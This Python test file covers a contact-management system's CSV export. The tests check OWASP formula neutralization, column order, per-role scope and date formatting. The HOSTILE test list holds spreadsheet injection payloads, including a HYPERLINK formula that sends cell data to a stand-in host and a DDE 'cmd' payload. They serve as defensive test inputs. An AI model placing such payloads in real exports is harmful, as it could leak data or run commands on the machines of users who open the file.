"""CSV export (ISSUE 5, part 6): the columns, the OWASP formula neutralization, and the use case
streaming the actor's scope."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain import exports
from domain.access import SYSTEM
from domain.errors import StageNotFound
from domain.model import Category, Contact, Stage
from domain.services.contacts import ContactDraft, ContactService
from domain.services.exports import ExportService
from tests.unit.conftest import People
from tests.unit.fakes import FakeDatabase

SAIGON = ZoneInfo("Asia/Ho_Chi_Minh")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\tplain text after a tab",
    "  =1+1",
    "\n@SUM(1)",
    "+84 912 345 678",  # not E.164 as written: a spreadsheet would parse a formula
    "-1e3",
    "+",
    "-",
]
LEGITIMATE = [
    "+84912345678",
    "+14155550123",
    "-12.5",
    "+3",
    "+0912345678",  # not E.164, but a plain number all the same
    "42",
    "Nguyễn Văn An",
    "an@x.vn",
    "2026-11-22T14:30:00+07:00",
    "",
    "a=b",
    "x-1",
    " leading space",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert exports.is_hostile(cell)
    assert exports.neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", LEGITIMATE)
def test_phones_plain_numbers_and_text_stay_intact(cell: str) -> None:
    assert not exports.is_hostile(cell)
    assert exports.neutralize(cell) == cell


def test_an_apostrophe_already_in_front_of_a_formula_is_doubled_so_import_can_restore_it() -> None:
    assert exports.neutralize("'=1+1") == "''=1+1"
    assert exports.neutralize("'quoted") == "'quoted"
    assert exports.restore("''=1+1") == "'=1+1"
    assert exports.restore("'=1+1") == "=1+1"
    assert exports.restore("'quoted") == "'quoted"
    assert exports.restore("'+84912345678") == "'+84912345678"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 0123456789.eaZ|!"), max_size=12))
def test_restore_undoes_neutralize_exactly(cell: str) -> None:
    written = exports.neutralize(cell)
    assert exports.restore(written) == cell
    assert not exports.is_hostile(written)


@given(st.text(max_size=30))
def test_no_written_cell_starts_a_formula(cell: str) -> None:
    written = exports.neutralize(cell)
    assert not exports.is_hostile(written)
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.restore(written) == written  # a phone or a plain number


def test_the_columns_are_the_import_field_names_then_custom_fields() -> None:
    keys = exports.custom_keys_in_order(["size", "Hội chợ", "b", "size"])
    assert keys == ["b", "Hội chợ", "size"]
    assert exports.header(keys) == [
        "id",
        "name",
        "phone",
        "email",
        "external_id",
        "company",
        "source",
        "owner",
        "stage",
        "stage_category",
        "value",
        "tags",
        "created_at",
        "stage_entered_at",
        "last_activity_at",
        "custom:b",
        "custom:Hội chợ",
        "custom:size",
    ]


def test_a_row_names_stage_owner_and_company_and_dates_in_the_organisations_zone() -> None:
    contact = Contact(
        id=7,
        name="Nguyễn Văn An",
        phone="+84912345678",
        email="an@x.vn",
        external_id="HS-1",
        source="=Zalo",
        value=Decimal("1500.00"),
        tags=["hội chợ", "vip"],
        custom_fields={"size": "-12.5", "note": "@SUM(1)"},
        created_at=datetime(2026, 11, 21, 20, 30, tzinfo=UTC),
        stage_entered_at=datetime(2026, 11, 22, 1, 0, tzinfo=UTC),
        last_activity_at=None,
    )
    cells = exports.row(
        contact,
        stage=Stage(3, "Khách hàng", Category.WON, 1),
        owner="Lan",
        company="Đại Phát",
        custom_keys=["missing", "note", "size"],
        zone=SAIGON,
    )
    assert cells == [
        "7",
        "Nguyễn Văn An",
        "+84912345678",
        "an@x.vn",
        "HS-1",
        "Đại Phát",
        "'=Zalo",
        "Lan",
        "Khách hàng",
        "won",
        "1500.00",
        "hội chợ; vip",
        "2026-11-22T03:30:00+07:00",
        "2026-11-22T08:00:00+07:00",
        "",
        "",
        "'@SUM(1)",
        "-12.5",
    ]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def service(db: FakeDatabase) -> ExportService:
    return ExportService(db.uow, zone=SAIGON, batch_size=2)


@pytest.mark.usefixtures("amis")
async def test_each_role_exports_its_own_scope_across_batches(
    service: ExportService, contacts: ContactService, people: People
) -> None:
    for n, owner in enumerate([people.agent, people.teammate, people.outsider, people.agent] * 2):
        await contacts.add(owner, ContactDraft(name=f"Lead {n}", external_id=f"X{n}"))
    for actor, expected in (
        (people.agent, {"Lan Agent"}),
        (people.manager, {"Lan Agent", "Tuấn Teammate"}),
        (people.admin, {"Lan Agent", "Tuấn Teammate", "Otto Outsider"}),
    ):
        out = io.StringIO()
        result = await service.export(actor, out)
        rows = read(out.getvalue())
        assert result.rows == len(rows)
        assert {r["owner"] for r in rows} == expected
        assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
    out = io.StringIO()
    assert (await service.export(people.agent, out)).rows == 4


@pytest.mark.usefixtures("amis")
async def test_a_stage_filter_keeps_that_stage_and_custom_columns_come_from_what_is_exported(
    service: ExportService, contacts: ContactService, people: People
) -> None:
    await contacts.add(
        people.agent,
        ContactDraft(name="An", stage="MQL", custom_fields={"Hội chợ": "Expo 2026"}),
    )
    await contacts.add(
        people.agent, ContactDraft(name="Bình", stage="Lead", custom_fields={"size": "10"})
    )
    where = await service.selection(["mql", "MQL"])
    out = io.StringIO()
    result = await service.export(people.agent, out, where)
    assert result.rows == 1
    assert result.columns[-1] == "custom:Hội chợ"
    [row] = read(out.getvalue())
    assert (row["name"], row["stage"], row["stage_category"]) == ("An", "MQL", "open")
    assert row["custom:Hội chợ"] == "Expo 2026"
    with pytest.raises(StageNotFound):
        await service.selection(["Nope"])


@pytest.mark.usefixtures("amis")
async def test_exporting_changes_nothing_and_an_empty_scope_writes_only_the_header(
    db: FakeDatabase, service: ExportService, contacts: ContactService, people: People
) -> None:
    await contacts.add(people.outsider, ContactDraft(name="Not yours"))
    commits = db.commits
    out = io.StringIO()
    result = await service.export(people.agent, out)
    assert result.rows == 0
    assert out.getvalue().splitlines() == [",".join(exports.BASE_COLUMNS)]
    assert db.commits == commits


async def test_the_command_line_exports_everything(
    db: FakeDatabase, contacts: ContactService
) -> None:
    await contacts.add(SYSTEM, ContactDraft(name="=HYPERLINK(1)", phone="0912345678"))
    out = io.StringIO()
    await ExportService(db.uow, zone=SAIGON).export(SYSTEM, out)
    [row] = read(out.getvalue())
    assert (row["name"], row["phone"]) == ("'=HYPERLINK(1)", "+84912345678")
    assert row["created_at"] == "2026-03-02T16:00:00+07:00"
